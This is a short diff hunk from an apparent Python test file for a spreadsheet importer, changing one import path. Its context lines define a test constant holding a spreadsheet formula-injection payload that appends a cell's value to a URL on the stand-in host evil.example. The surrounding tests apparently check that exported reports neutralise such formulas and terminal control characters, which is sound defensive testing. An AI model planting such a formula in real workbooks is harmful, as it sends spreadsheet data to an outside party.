@@ -13,11 +13,11 @@ import pytest
 from click.testing import CliRunner
 from conftest import BASIC_MAPPING, read_csv
 
+from importer.checks import ValidationSummary
 from importer.errors import ConfigError
 from importer.issues import Issue
 from importer.readers import SourceRow
 from importer.report import AnnotatedWorkbook, ErrorReport, RejectedRows, summary_lines
-from importer.validate import ValidationSummary
 
 HYPERLINK = '=HYPERLINK("http://evil.example/"&A2,"x")'
 # What a terminal acts on: C0 controls (ESC, BEL, CR, backspace, newline, tab), DEL, C1, bidi.
